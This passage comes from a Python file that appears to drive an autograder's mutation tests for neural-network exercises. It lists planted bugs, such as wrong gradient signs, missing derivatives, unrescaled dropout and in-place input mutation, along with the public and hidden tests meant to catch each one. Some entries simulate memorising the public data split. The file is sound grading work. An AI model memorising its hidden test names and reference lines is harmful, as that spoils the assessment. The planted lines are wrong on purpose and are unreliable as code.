            Replace("return float(np.mean(self.predict(X) == np.asarray(y)))",
                    "return float(np.sum(self.predict(X) == np.asarray(y)))"),
            tests("test_accuracy_is_the_fraction_correct", "test_hidden_accuracy_matches_reference"),
            said=('a whole number',), about="accuracy counts the correct predictions instead of their fraction"),
    Example(BUG, "bug_lr_memorises_public_split", P04, MEMORISE_LR,
            # its train does nothing: the step checks of both training runs see it
            tests("test_hidden_one_epoch_on_an_unseen_split", "test_init_and_one_epoch_of_sgd_reach_the_accuracy_bar"),
            said=('each step must move every parameter',), about="LogisticRegression(64, 10) starts from weights learned at home on the public split, and its "
                  "train does nothing"),
    # 05_mlp
    Example(BUG, "bug_mlp_dsigmoid_of_activation", P05,
            Replace("grad_z_h = grad_h * dsigmoid(z_h)", "grad_z_h = grad_h * dsigmoid(h)"),
            tests("test_grad_loss_passes_the_gradient_check", "test_hidden_grad_loss_gradient_check",
                  "test_hidden_grad_loss_matches_reference",
                  "test_init_and_fifteen_epochs_fit_and_generalise", "test_hidden_training_on_an_unseen_split"),
            said=('taken at the activation a instead of the pre-activation',), about="the sigmoid derivative taken at the activation h instead of the pre-activation z_h"),
    Example(BUG, "bug_mlp_dsigmoid_formula_on_output", P05,
            Replace("    activation = sigmoid(X)\n    return activation * (1 - activation)\n",
                    "    X = np.asarray(X, dtype=float)\n    return X * (1 - X)\n"),
            tests("test_dsigmoid_takes_the_pre_activation", "test_hidden_dsigmoid_matches_reference"),
            said=('PRE-activation',), about="dsigmoid(z) = z * (1 - z): the formula for an activation, applied to the pre-activation"),
    Example(BUG, "bug_mlp_missing_hidden_derivative", P05,
            Replace("grad_z_h = grad_h * dsigmoid(z_h)", "grad_z_h = grad_h"),
            tests("test_grad_loss_passes_the_gradient_check", "test_hidden_grad_loss_gradient_check",
                  "test_hidden_grad_loss_matches_reference",
                  "test_init_and_fifteen_epochs_fit_and_generalise", "test_hidden_training_on_an_unseen_split"),
            said=("not multiplied by the activation's slope",), about="no derivative of the hidden sigmoid in the chain rule"),
    Example(BUG, "bug_mlp_hidden_bias_gradient_zero", P05,
            Replace('"b_h": grad_z_h,', '"b_h": np.zeros_like(grad_z_h),'),
            tests("test_grad_loss_passes_the_gradient_check", "test_hidden_grad_loss_gradient_check",
                  "test_hidden_grad_loss_matches_reference"),
            said=('is zero',), about="a zero hidden bias gradient"),
    Example(BUG, "bug_mlp_output_gradient_sign", P05,
            Replace("grad_z_o = y - one_hot(self.output_size, y_true)", "grad_z_o = one_hot(self.output_size, y_true) - y"),
            tests("test_grad_loss_passes_the_gradient_check", "test_hidden_grad_loss_gradient_check",
                  "test_hidden_grad_loss_matches_reference", "test_init_and_fifteen_epochs_fit_and_generalise",
                  "test_hidden_training_on_an_unseen_split"),
            said=('times -1',), about="the gradient's sign at the output"),
    Example(BUG, "bug_mlp_output_gradient_of_pre_activation", P05,
            Replace('"W_o": np.outer(h, grad_z_o),', '"W_o": np.outer(z_h, grad_z_o),'),
            tests("test_grad_loss_passes_the_gradient_check", "test_hidden_grad_loss_gradient_check",
                  "test_hidden_grad_loss_matches_reference",
                  "test_init_and_fifteen_epochs_fit_and_generalise", "test_hidden_training_on_an_unseen_split"),
            said=('takes the hidden pre-activations z instead of the activations',), about="dW_o from the hidden pre-activations instead of the activations"),
    Example(BUG, "bug_mlp_train_skips_hidden_bias", P05,
            Replace('        self.b_h = self.b_h - learning_rate * grads["b_h"]\n', ""),
            tests("test_train_takes_one_sgd_step", "test_hidden_train_matches_reference_step",
                  "test_init_and_fifteen_epochs_fit_and_generalise", "test_hidden_training_on_an_unseen_split"),
            said=('must update every parameter',), about="train never updates the hidden biases"),
    Example(BUG, "bug_mlp_forward_without_sigmoid", P05,
            Replace("        h = sigmoid(z_h)\n        y = softmax", "        h = z_h\n        y = softmax"),
            # not training: it is retried with forward answered by the reference (autograder/testing/helper_bugs.py)
            tests("test_forward_matches_a_trusted_computation", "test_forward_keeps_activations",
                  "test_hidden_forward_matches_reference", "test_hidden_forward_keeps_activations"),
            said=('has no sigmoid',), about="the hidden layer is linear: no sigmoid"),
    Example(BUG, "bug_mlp_memorises_public_split", P05, MEMORISE_MLP,
            tests("test_hidden_training_on_an_unseen_split", "test_init_and_fifteen_epochs_fit_and_generalise"),
            said=('each step must move every parameter',), about="NeuralNet(64, 10, 10) starts from weights learned at home on the public split, and its train "
                  "does nothing"),
    # 06_backprop
    Example(BUG, "bug_backprop_no_learnrate", P06,
            Replace("delta_w_h_o = learnrate * output_error_term * hidden_output",
                    "delta_w_h_o = output_error_term * hidden_output"),
            tests("test_backprop_step_gradient_check", "test_hidden_backprop_step_matches_reference",
                  "test_hidden_backprop_step_gradient_check"),
            said=('twice the expected', 'a whole number'), about="the output weights' change without the learning rate"),
    Example(BUG, "bug_backprop_missing_hidden_derivative", P06,
            Replace("hidden_error_term = weights_hidden_output * output_error_term * hidden_output * (1 - hidden_output)",
                    "hidden_error_term = weights_hidden_output * output_error_term"),
            tests("test_backprop_step_gradient_check", "test_hidden_backprop_step_matches_reference",
                  "test_hidden_backprop_step_gradient_check"),
            said=("not multiplied by the activation's slope",), about="the hidden error term without the hidden unit's sigmoid derivative"),
    Example(BUG, "bug_backprop_bias_gradient_averaged", P06,
            Replace('"b2": dZ2.sum(axis=0)}', '"b2": dZ2.mean(axis=0)}'),
            tests("test_two_layer_gradients_gradient_check", "test_hidden_two_layer_gradients_matches_reference",
                  "test_hidden_two_layer_gradients_gradient_check"),
            said=('divided by',), about="a gradient scaled by 1/n too often: dZ2 already holds the 1/n, and db2 averages again"),
    Example(BUG, "bug_backprop_gradient_sign", P06,
            Replace("dZ2 = (A2 - Y) / len(X) * A2 * (1 - A2)", "dZ2 = (Y - A2) / len(X) * A2 * (1 - A2)"),
            tests("test_train_xor_solves_xor", "test_two_layer_gradients_gradient_check",
                  "test_hidden_train_xor_solves_xor", "test_hidden_two_layer_gradients_matches_reference",
                  "test_hidden_two_layer_gradients_gradient_check"),
            said=('times -1',), about="the gradient's sign: (Y - A2) instead of (A2 - Y)"),
    Example(BUG, "bug_backprop_hidden_bias_gradient_zero", P06,
            Replace('"b1": dZ1.sum(axis=0),', '"b1": np.zeros(dZ1.shape[1]),'),
            tests("test_two_layer_gradients_gradient_check", "test_hidden_two_layer_gradients_matches_reference",
                  "test_hidden_two_layer_gradients_gradient_check"),
            said=('is zero',), about="a zero hidden bias gradient"),
    Example(BUG, "bug_backprop_train_ascends", P06,
            Replace('        W1 = W1 - learning_rate * grads["W1"]\n        b1 = b1 - learning_rate * grads["b1"]\n'
                    '        W2 = W2 - learning_rate * grads["W2"]\n        b2 = b2 - learning_rate * grads["b2"]\n',
                    '        W1 = W1 + learning_rate * grads["W1"]\n        b1 = b1 + learning_rate * grads["b1"]\n'
                    '        W2 = W2 + learning_rate * grads["W2"]\n        b2 = b2 + learning_rate * grads["b2"]\n'),
            tests("test_train_xor_solves_xor", "test_hidden_train_xor_solves_xor"),
            about="train_xor climbs the loss"),
    Example(BUG, "bug_sigmoid_prime_of_activation", P06,
            Replace("    activation = sigmoid(x)\n    return activation * (1 - activation)\n",
                    "    x = np.asarray(x, dtype=float)\n    return x * (1 - x)\n"),
            tests("test_sigmoid_prime_is_the_slope_of_sigmoid", "test_hidden_sigmoid_prime_matches_reference"),
            said=('PRE-activation',), about="sigmoid_prime(x) = x * (1 - x): the derivative applied as if x were the activation"),
    Example(BUG, "bug_error_term_sign", P06,
            Replace("return (y - output) * output * (1 - output)", "return (output - y) * output * (1 - output)"),
            tests("test_error_term_formula_known_values", "test_hidden_error_term_formula_matches_reference"),
            said=('times -1',), about="the error term's sign"),
    Example(BUG, "bug_mse_summed", P06,
            Replace("return float(np.mean((np.asarray(pred, dtype=float) - np.asarray(true, dtype=float)) ** 2))",
                    "return float(np.sum((np.asarray(pred, dtype=float) - np.asarray(true, dtype=float)) ** 2))"),
            tests("test_mse_value", "test_hidden_mse_matches_reference"), said=('a whole number',), about="MSE summed instead of averaged"),
    Example(BUG, "bug_mse_diff_without_two", P06,
            Replace("return 2 * (pred - np.asarray(true, dtype=float)) / pred.size",
                    "return (pred - np.asarray(true, dtype=float)) / pred.size"),
            tests("test_mse_diff_gradient_check", "test_hidden_mse_diff_gradient_check"),
            said=('half the expected',), about="MSE's gradient without the factor 2"),
    # 07_training
    Example(BUG, "bug_training_momentum_sign", P07,
            Replace("velocity = beta * np.asarray(velocity, dtype=float) - learning_rate * np.asarray(grad, dtype=float)",
                    "velocity = beta * np.asarray(velocity, dtype=float) + learning_rate * np.asarray(grad, dtype=float)"),
            # not fit's tests: they retry with momentum_step answered by the reference (autograder/testing/helper_bugs.py)
            tests("test_momentum_step_known_values", "test_hidden_momentum_step_matches_reference"),
            said=('times -1', 'beta * v + learning_rate * grad'), about="momentum climbs the loss: velocity = beta * velocity + learning_rate * grad"),
    Example(BUG, "bug_training_momentum_old_velocity", P07,
            Replace("    velocity = beta * np.asarray(velocity, dtype=float) - learning_rate * np.asarray(grad, dtype=float)\n"
                    "    return np.asarray(param, dtype=float) + velocity, velocity\n",
                    "    param = np.asarray(param, dtype=float) + np.asarray(velocity, dtype=float)  # steps with the old one\n"
                    "    velocity = beta * np.asarray(velocity, dtype=float) - learning_rate * np.asarray(grad, dtype=float)\n"
                    "    return param, velocity\n"),
            tests("test_momentum_step_known_values", "test_hidden_momentum_step_matches_reference"),
            said=('moves the parameter by the OLD velocity',), about="the parameter moves by the old velocity: the update order of classic momentum reversed"),
    Example(BUG, "bug_training_velocity_not_carried", P07,
            Replace("            grads = model.grad_loss(X_batch, y_batch, rng)\n",
                    "            grads = model.grad_loss(X_batch, y_batch, rng)\n"
                    "            velocity = {name: np.zeros_like(getattr(model, name), dtype=float) for name in PARAMETERS}\n"),
            tests("test_fit_follows_the_contract", "test_hidden_fit_follows_the_steps_and_keeps_the_best_epoch", "test_fit_beats_the_plain_mlp_on_the_digits"),
            about="fit starts every batch from a zero velocity: plain SGD, no momentum (too slow for the bar)"),
    Example(BUG, "bug_training_l2_on_biases", P07, [
        Replace("penalty = 0.5 * self.l2 * (np.sum(self.W_h ** 2) + np.sum(self.W_o ** 2))",
                "penalty = 0.5 * self.l2 * sum(np.sum(getattr(self, name) ** 2) for name in PARAMETERS)"),
        Replace('"b_h": np.sum(grad_z_h, axis=0),', '"b_h": np.sum(grad_z_h, axis=0) + self.l2 * self.b_h,'),
        Replace('"b_o": np.sum(grad_z_o, axis=0),', '"b_o": np.sum(grad_z_o, axis=0) + self.l2 * self.b_o,')],
            tests("test_loss_adds_half_the_l2_penalty_of_the_weights", "test_grad_loss_passes_the_gradient_check",
                  "test_hidden_loss_matches_reference", "test_hidden_grad_loss_gradient_check",
                  "test_hidden_grad_loss_matches_reference"),
            said=('includes the biases',), about="L2 penalises the biases too, in the loss and its gradient"),
    Example(BUG, "bug_training_l2_without_half", P07,
            Replace("penalty = 0.5 * self.l2 * (np.sum(self.W_h ** 2) + np.sum(self.W_o ** 2))",
                    "penalty = self.l2 * (np.sum(self.W_h ** 2) + np.sum(self.W_o ** 2))"),
            tests("test_loss_adds_half_the_l2_penalty_of_the_weights", "test_hidden_loss_matches_reference"),
            said=('lacks its 1/2',), about="the L2 penalty without its 1/2 (so the gradient l2 * W no longer matches the loss)"),
    Example(BUG, "bug_training_dropout_not_rescaled", P07,
            Replace("    return A * mask / (1.0 - p_drop), mask\n", "    return A * mask, mask\n"),
            tests("test_dropout_keeps_rescales_and_draws_once_while_training", "test_hidden_dropout_matches_reference"),
            said=('not scaled up by 1 / (1 - p_drop)',), about="dropout without the 1 / (1 - p_drop): activations shrink while training, not at evaluation"),
    Example(BUG, "bug_training_dropout_at_evaluation", P07,
            Replace("    if not training or p_drop == 0:\n        return A, None\n",
                    "    if p_drop == 0:\n        return A, None\n"),
            # the model's evaluation (rng None) fails, and fit evaluates after every epoch: fit's tests retry with
            # dropout and forward answered by the reference (autograder/testing/helper_bugs.py)
            tests("test_dropout_is_the_identity_at_evaluation", "test_hidden_dropout_matches_reference"),
            about="dropout ignores training: it drops units at evaluation too (where there is no generator)"),
    Example(BUG, "bug_training_forward_drops_at_evaluation", P07,
            Replace("        hidden, _ = dropout(hidden, self.p_drop, rng, training)\n",
                    "        hidden, _ = dropout(hidden, self.p_drop, np.random.default_rng(0), True)\n"),
            tests("test_forward_matches_a_trusted_computation", "test_hidden_forward_matches_reference"),
            about="forward always drops hidden units, with a generator of its own (seeded, so at least repeatable)"),
    Example(BUG, "bug_training_mask_redrawn", P07,
            Replace("        hidden, mask = dropout(relu(z_h), self.p_drop, rng, True)\n"
                    "        probabilities = softmax(np.dot(hidden, self.W_o) + self.b_o)\n",
                    "        probabilities = self.forward(X, training=True, rng=rng)\n"
                    "        hidden, mask = dropout(relu(z_h), self.p_drop, rng, True)  # a second mask\n"),
            tests("test_grad_loss_passes_the_gradient_check", "test_hidden_grad_loss_gradient_check",
                  "test_hidden_grad_loss_matches_reference"),
            said=('uses a second dropout mask',), about="grad_loss calls forward (one dropout mask), then draws another mask for the backward pass"),
    Example(BUG, "bug_training_backward_ignores_mask", P07,
            Replace("        if mask is not None:\n            grad_hidden = grad_hidden * mask / (1.0 - self.p_drop)\n", ""),
            tests("test_grad_loss_passes_the_gradient_check", "test_hidden_grad_loss_gradient_check",
                  "test_hidden_grad_loss_matches_reference"),
            said=('the backward pass ignores the dropout mask',), about="the backward pass forgets the dropout mask: dropped units still get gradient"),
    Example(BUG, "bug_training_gradient_not_averaged", P07,
            Replace("grad_z_o = (probabilities - one_hot(self.output_size, y)) / len(X)",
                    "grad_z_o = probabilities - one_hot(self.output_size, y)"),
            # not fit's tests: they retry with grad_loss answered by the reference (autograder/testing/helper_bugs.py)
            tests("test_grad_loss_passes_the_gradient_check", "test_hidden_grad_loss_gradient_check",
                  "test_hidden_grad_loss_matches_reference"),
            said=('a whole number',), about="the batch gradient is summed over the samples instead of averaged: 64 times the step, fit diverges"),
    Example(BUG, "bug_training_relu_prime_at_zero", P07,
            Replace("return (np.asarray(z, dtype=float) > 0).astype(float)", "return (np.asarray(z, dtype=float) >= 0).astype(float)"),
            tests("test_relu_and_its_derivative", "test_hidden_relu_and_relu_prime_match_reference"),
            said=('the slope at exactly 0 is 1',), about="relu_prime is 1 at 0"),
    Example(BUG, "bug_training_batches_skip_the_rest", P07,
            Replace("    for start in range(0, len(X), batch_size):\n",
                    "    for start in range(0, len(X) - batch_size + 1, batch_size):  # full batches only\n"),
            tests("test_minibatches_follow_one_permutation", "test_hidden_minibatches_match_reference"),
            said=('the last, smaller batch is left out',), about="minibatches leaves out the last, smaller batch: some samples are never trained on"),
    Example(BUG, "bug_training_batches_with_replacement", P07,
            Replace("        rows = order[start:start + batch_size]\n",
                    "        rows = rng.integers(0, len(X), size=min(batch_size, len(X) - start))\n"),
            tests("test_minibatches_follow_one_permutation", "test_hidden_minibatches_match_reference"),
            said=('some samples come twice and others never',), about="each batch draws its rows with replacement: samples repeat and others are skipped"),
    Example(BUG, "bug_training_fit_keeps_the_last_epoch", P07,
            Replace("    if best_parameters is not None:\n        for name in PARAMETERS:\n"
                    "            setattr(model, name, best_parameters[name])\n", ""),
            tests("test_fit_follows_the_contract", "test_hidden_fit_follows_the_steps_and_keeps_the_best_epoch"),
            said=("holds the LAST epoch's parameters",), about="early stopping stops, but the model keeps the last epoch's parameters, not the best"),
    Example(BUG, "bug_training_fit_patience_plus_one", P07,
            Replace("            if waited >= patience:\n", "            if waited > patience:\n"),
            tests("test_fit_follows_the_contract", "test_hidden_fit_follows_the_steps_and_keeps_the_best_epoch"),
            about="early stopping waits one epoch too many"),
    Example(BUG, "bug_training_fit_same_order_every_epoch", P07,
            Replace("        for X_batch, y_batch in minibatches(X_train, y_train, batch_size, rng):\n",
                    "        rng = np.random.default_rng(seed)  # every epoch afresh\n"
                    "        for X_batch, y_batch in minibatches(X_train, y_train, batch_size, rng):\n"),
            tests("test_fit_follows_the_contract", "test_hidden_fit_follows_the_steps_and_keeps_the_best_epoch"),
            about="fit makes its generator again every epoch: the same batches and masks each time"),
    # 08_regression
    Example(BUG, "bug_regression_sigmoid_output", P08, [
        Replace("        return np.dot(hidden, self.weights_hidden_to_output)\n",
                "        return self.activation_function(np.dot(hidden, self.weights_hidden_to_output))\n"),
        Replace("        output = np.dot(hidden, self.weights_hidden_to_output)\n        output_error_term = targets - output\n",
                "        output = self.activation_function(np.dot(hidden, self.weights_hidden_to_output))\n"
                "        output_error_term = (targets - output) * output * (1 - output)\n")],
            tests("test_run_matches_a_trusted_computation", "test_train_takes_one_averaged_gradient_step",
                  "test_init_and_training_come_close_to_linear_regression", "test_hidden_run_matches_reference",
                  "test_hidden_train_matches_reference_step", "test_hidden_training_on_an_unseen_split"),
            said=('the output unit has a sigmoid',), about="the seed's network with a sigmoid output unit: it cannot predict below 0 or above 1"),
    Example(BUG, "bug_regression_changes_summed", P08, [
        Replace("self.weights_hidden_to_output + self.lr * delta_weights_h_o / n_records",
                "self.weights_hidden_to_output + self.lr * delta_weights_h_o"),
        Replace("self.weights_input_to_hidden + self.lr * delta_weights_i_h / n_records",
                "self.weights_input_to_hidden + self.lr * delta_weights_i_h")],
            tests("test_train_takes_one_averaged_gradient_step", "test_hidden_train_matches_reference_step",
                  "test_init_and_training_come_close_to_linear_regression", "test_hidden_training_on_an_unseen_split"),
            said=('summed over the batch',), about="the weight changes are summed over the batch instead of averaged: 353 times the step"),
    Example(BUG, "bug_regression_train_ascends", P08,
            Replace("        output_error_term = targets - output\n", "        output_error_term = output - targets\n"),
            tests("test_train_takes_one_averaged_gradient_step", "test_hidden_train_matches_reference_step",
                  "test_init_and_training_come_close_to_linear_regression", "test_hidden_training_on_an_unseen_split"),
            said=('AGAINST the gradient', 'train steps along the gradient'), about="error = output - targets with += steps: train climbs the squared error"),
    Example(BUG, "bug_regression_hidden_term_without_derivative", P08,
            Replace("hidden_error_term = np.dot(output_error_term, self.weights_hidden_to_output.T) * hidden * (1 - hidden)",
                    "hidden_error_term = np.dot(output_error_term, self.weights_hidden_to_output.T)"),
            tests("test_train_takes_one_averaged_gradient_step", "test_hidden_train_matches_reference_step",
                  # training checks train's steps, not only where they end
                  "test_init_and_training_come_close_to_linear_regression", "test_hidden_training_on_an_unseen_split"),
            said=("not multiplied by the activation's slope",), about="the hidden error term without the sigmoid's derivative"),
    Example(BUG, "bug_regression_deep_wrong_layer_derivative", P08,
            Replace("delta = np.dot(delta, weights[layer].T) * (pre_activations[layer - 1] > 0)",
                    "delta = np.dot(delta, weights[layer].T) * (pre_activations[layer] > 0).mean()"),
            tests("test_deep_gradients_pass_the_gradient_check", "test_hidden_deep_gradients_gradient_check",
                  "test_hidden_deep_gradients_match_reference"),
            about="the deep loop uses the wrong layer's activation: relu' of the layer above, not the layer below"),
    Example(BUG, "bug_regression_deep_derivative_of_activation", P08,
            Replace("delta = np.dot(delta, weights[layer].T) * (pre_activations[layer - 1] > 0)",
                    "delta = np.dot(delta, weights[layer].T) * relu(pre_activations[layer - 1])"),
            tests("test_deep_gradients_pass_the_gradient_check", "test_hidden_deep_gradients_gradient_check",
                  "test_hidden_deep_gradients_match_reference"),
            said=('multiplied by the activation itself',), about="multiplies by ReLU of the pre-activation instead of ReLU's derivative"),
    Example(BUG, "bug_regression_deep_bias_averaged", P08,
            Replace("        grads_b[layer] = np.sum(delta, axis=0)\n", "        grads_b[layer] = np.mean(delta, axis=0)\n"),
            tests("test_deep_gradients_pass_the_gradient_check", "test_hidden_deep_gradients_gradient_check",
                  "test_hidden_deep_gradients_match_reference"),
            said=('a whole number',), about="the bias gradients averaged again: delta already holds the 1/n"),
    Example(BUG, "bug_regression_deep_reverses_the_caller_list", P08,
            Replace("    weights = [np.asarray(W, dtype=float) for W in weights]\n    biases = [np.asarray(b, dtype=float) for b in biases]\n",
                    "    weights.reverse()  # walk the layers from the output back...\n"
                    "    weights = [np.asarray(W, dtype=float) for W in reversed(weights)]  # ...or not\n"
                    "    biases = [np.asarray(b, dtype=float) for b in biases]\n"),
            tests("test_deep_gradients_leave_the_weights_as_they_were", "test_hidden_inputs_not_mutated"),
            about="reverses the caller's list of weights in place"),
    Example(BUG, "bug_regression_mse_without_half", P08,
            Replace("return float(0.5 * np.mean(np.sum(difference ** 2, axis=1)))",
                    "return float(np.mean(np.sum(difference ** 2, axis=1)))"),
            tests("test_mse_known_values", "test_hidden_mse_matches_reference"), said=('twice the expected',), about="mse without the 1/2"),
    Example(BUG, "bug_regression_mse_mean_over_entries", P08,
            Replace("return float(0.5 * np.mean(np.sum(difference ** 2, axis=1)))",
                    "return float(0.5 * np.mean(difference ** 2))"),
            tests("test_mse_known_values", "test_hidden_mse_matches_reference"),
            said=('averages over every entry',), about="mse averages over every entry instead of summing the outputs of each row"),
    Example(BUG, "bug_regression_r2_mean_of_predictions", P08,
            Replace("np.sum((y_true - np.mean(y_true)) ** 2)", "np.sum((y_true - np.mean(y_pred)) ** 2)"),
            tests("test_r2_score_known_values", "test_hidden_r2_score_matches_reference"),
            said=('around the mean of the predictions',), about="SST around the mean of the predictions instead of the targets'"),
    Example(BUG, "bug_regression_mse_subtracts_in_place", P08,
            Replace("    difference = as_rows(y_pred, rows) - as_rows(y_true, rows)\n",
                    "    difference = as_rows(y_pred, rows)\n    difference -= as_rows(y_true, rows)\n"),
            tests("test_hidden_inputs_not_mutated"),
            about="mse subtracts the targets from the caller's predictions in place"),
]


# One bug for each rule of the contract that a plausible mistake breaks without changing a value the old tests
# looked at: dtypes, stability for a vector as for a matrix, the "certain and wrong" boundary of nll, warnings,
# inputs changed in place (by a clip, a normalisation, a ReLU) and seeds. Each is caught by the rule's own test.
SIGMOID_LINE = "return np.exp(-np.logaddexp(0.0, -np.asarray(x, dtype=float)))"
NAIVE_SIGMOID = "return 1 / (1 + np.exp(-np.asarray(x, dtype=float)))  # overflows (with a warning) for x << 0"
WHERE_SIGMOID = ("x = np.asarray(x, dtype=float)\n    return np.where(x >= 0, 1 / (1 + np.exp(-x)), np.exp(x) / (1 + np.exp(x)))"
                 "  # both branches are computed: exp overflows")
CLIPPING_SIGMOID = ("x = np.asarray(x, dtype=float)\n    np.clip(x, -500, 500, out=x)  # no overflow: in place, in the caller's "
                    "array\n    return 1 / (1 + np.exp(-x))")
EXTREME_SIGMOID_TESTS = ("test_sigmoid_is_finite_for_extreme_inputs", "test_hidden_sigmoid_matches_reference")
RULE_BUGS = [
    # 01_perceptron: labels are ints
    Example(BUG, "bug_step_returns_bool", P01, Replace("return 1 if t >= 0 else 0", "return t >= 0"),
            tests("test_step_function_values", "test_hidden_step_function_matches_reference"),
            said=('a bool where an int belongs',), about="stepFunction returns True/False, not the int 1 or 0"),
    Example(BUG, "bug_step_returns_float", P01, Replace("return 1 if t >= 0 else 0", "return 1.0 if t >= 0 else 0.0"),
            tests("test_step_function_values", "test_hidden_step_function_matches_reference"),
            said=('a float where an int belongs',), about="stepFunction returns 1.0 or 0.0, not an int"),
    # 02_softmax
    Example(BUG, "bug_one_hot_int_dtype", P02,
            Replace("encoded = np.zeros(y.shape + (n_classes,))", "encoded = np.zeros(y.shape + (n_classes,), dtype=int)"),
            tests("test_one_hot_shapes_and_values", "test_hidden_one_hot_matches_reference"),
            said=('where a float dtype belongs',), about="one-hot rows of ints (the values are right, the dtype is not)"),
    Example(BUG, "bug_one_hot_bool_dtype", P02,
            Replace("encoded = np.zeros(y.shape + (n_classes,))", "encoded = np.zeros(y.shape + (n_classes,), dtype=bool)"),
            tests("test_one_hot_shapes_and_values", "test_hidden_one_hot_matches_reference"),
            said=('where a float dtype belongs',), about="one-hot rows of booleans"),
    Example(BUG, "bug_softmax_stable_only_for_batches", P02,
            Replace("    X = np.asarray(X)\n    exp = np.exp(X - np.max(X, axis=-1, keepdims=True))\n",
                    "    X = np.asarray(X)\n    if X.ndim == 2:  # a batch of scores can be large\n"
                    "        X = X - np.max(X, axis=-1, keepdims=True)\n    exp = np.exp(X)\n"),
            tests("test_softmax_is_stable_for_huge_scores", "test_hidden_softmax_matches_reference"),
            said=('without the max shift',), about="subtracts the max for a matrix only: a single vector of huge scores overflows"),
    Example(BUG, "bug_softmax_global_max", P02,
            Replace("exp = np.exp(X - np.max(X, axis=-1, keepdims=True))", "exp = np.exp(X - np.max(X))"),
            tests("test_softmax_is_stable_for_huge_scores", "test_hidden_softmax_matches_reference"),
            said=("the max subtracted is not each row's own",), about="subtracts the max of the whole batch: a row far below it underflows to 0/0"),
    Example(BUG, "bug_softmax_normalises_in_place", P02,
            Replace("    X = np.asarray(X)\n    exp = np.exp(X - np.max(X, axis=-1, keepdims=True))\n"
                    "    return exp / np.sum(exp, axis=-1, keepdims=True)\n",
                    "    X = np.asarray(X, dtype=float)\n    X -= np.max(X, axis=-1, keepdims=True)\n    np.exp(X, out=X)\n"
                    "    X /= np.sum(X, axis=-1, keepdims=True)\n    return X\n"),
            tests("test_hidden_inputs_not_mutated"),
            about="computes the whole softmax in the caller's array to save memory"),
    Example(BUG, "bug_nll_log_of_max", P02,
            Replace("np.log(EPSILON + Y_pred)", "np.log(np.maximum(Y_pred, EPSILON))"),
            tests("test_nll_published_values", "test_hidden_nll_matches_reference"),
            said=('EPSILON is used as a floor',), about="log(max(p, EPSILON)) instead of log(EPSILON + p): the same at p = 0, not for a tiny p"),
    Example(BUG, "bug_nll_clips_predictions", P02,
            Replace("np.log(EPSILON + Y_pred)", "np.log(np.clip(Y_pred, EPSILON, 1 - EPSILON))"),
            tests("test_nll_published_values", "test_hidden_nll_matches_reference"),
            said=('EPSILON is used as a floor',), about="clips the probabilities to [EPSILON, 1 - EPSILON] instead of adding EPSILON"),
    Example(BUG, "bug_nll_adds_epsilon_in_place", P02,
            Replace("    log_likelihoods = np.sum(Y_true * np.log(EPSILON + Y_pred), axis=1)\n",
                    "    Y_pred += EPSILON  # in place: the caller's array, when it was a float one\n"
                    "    log_likelihoods = np.sum(Y_true * np.log(Y_pred), axis=1)\n"),
            tests("test_hidden_inputs_not_mutated"),
            about="adds EPSILON to the caller's predictions in place"),
    Example(BUG, "bug_cross_entropy_flips_in_place", P02,
            Replace("    return float(-np.sum(Y * np.log(P) + (1 - Y) * np.log(1 - P)))\n",
                    "    P[Y == 0] = 1 - P[Y == 0]  # the probability of each point's own label, in the caller's array\n"
                    "    return float(-np.sum(np.log(P)))\n"),
            tests("test_hidden_inputs_not_mutated"),
            about="turns P into the probability of each label in place"),
    # 03_gradient_descent
    Example(BUG, "bug_gd_sigmoid_naive", P03, Replace(SIGMOID_LINE, NAIVE_SIGMOID), EXTREME_SIGMOID_TESTS,
            said=('exp overflowed',), about="1 / (1 + exp(-x)): the right values, with an overflow warning for x << 0"),
    Example(BUG, "bug_gd_sigmoid_where_warns", P03, Replace(SIGMOID_LINE, WHERE_SIGMOID), EXTREME_SIGMOID_TESTS,
            said=('exp overflowed',), about="np.where of the two formulas: both are computed, so exp overflows (with a warning) either way"),
    Example(BUG, "bug_gd_sigmoid_clips_in_place", P03, Replace(SIGMOID_LINE, CLIPPING_SIGMOID),
            tests("test_hidden_inputs_not_mutated"), about="clips the caller's scores to [-500, 500] in place"),
    Example(BUG, "bug_error_formula_clips_in_place", P03,
            Replace("    output = np.asarray(output, dtype=float)\n    return -y * np.log(output)",
                    "    output = np.asarray(output, dtype=float)\n"
                    "    np.clip(output, 1e-7, 1 - 1e-7, out=output)  # never log(0), in the caller's array\n"
                    "    return -y * np.log(output)"),
            tests("test_hidden_inputs_not_mutated"), about="clips the caller's probabilities in place"),
    # 04_logistic_regression: predictions are ints
    Example(BUG, "bug_lr_predict_float_classes", P04,
            Replace("        return int(predicted) if predicted.ndim == 0 else predicted\n        ### END SOLUTION\n\n    def grad_loss",
                    "        return int(predicted) if predicted.ndim == 0 else predicted.astype(float)\n"
                    "        ### END SOLUTION\n\n    def grad_loss"),
            tests("test_predict_gives_the_most_probable_class", "test_hidden_predict_matches_reference"),
            said=('where an array of int classes belongs',), about="predict returns the classes of a batch as floats"),
    # 05_mlp
    Example(BUG, "bug_mlp_sigmoid_naive", P05,
            Replace("return np.exp(-np.logaddexp(0.0, -np.asarray(X, dtype=float)))",
                    "return 1 / (1 + np.exp(-np.asarray(X, dtype=float)))  # overflows (with a warning) for X << 0"),
            tests("test_sigmoid_is_stable_for_huge_inputs", "test_hidden_sigmoid_matches_reference"),
            said=('exp overflowed',), about="1 / (1 + exp(-X)): the right values, with an overflow warning for X << 0"),
    Example(BUG, "bug_mlp_sigmoid_clips_in_place", P05,
            Replace("return np.exp(-np.logaddexp(0.0, -np.asarray(X, dtype=float)))",
                    "X = np.asarray(X, dtype=float)\n    np.clip(X, -500, 500, out=X)  # no overflow, in the caller's array\n"
                    "    return 1 / (1 + np.exp(-X))"),
            tests("test_hidden_inputs_not_mutated"), about="clips the caller's pre-activations in place"),
    Example(BUG, "bug_mlp_dsigmoid_naive", P05,
            Replace("    activation = sigmoid(X)\n    return activation * (1 - activation)\n",
                    "    X = np.asarray(X, dtype=float)\n    return np.exp(-X) / (1 + np.exp(-X)) ** 2\n"),
            tests("test_dsigmoid_takes_the_pre_activation", "test_hidden_dsigmoid_matches_reference"),
            said=('overflows to inf / inf',), about="dsigmoid as exp(-X) / (1 + exp(-X))**2: inf / inf for X << 0"),
    Example(BUG, "bug_mlp_predict_float_classes", P05,
            Replace("        return int(predicted) if predicted.ndim == 0 else predicted\n",
                    "        return int(predicted) if predicted.ndim == 0 else predicted.astype(float)\n"),
            tests("test_predict_gives_the_most_probable_class", "test_hidden_predict_matches_reference"),
            said=('where an array of int classes belongs',), about="predict returns the classes of a batch as floats"),
    # 06_backprop
    Example(BUG, "bug_backprop_sigmoid_naive", P06, Replace(SIGMOID_LINE, NAIVE_SIGMOID), EXTREME_SIGMOID_TESTS,
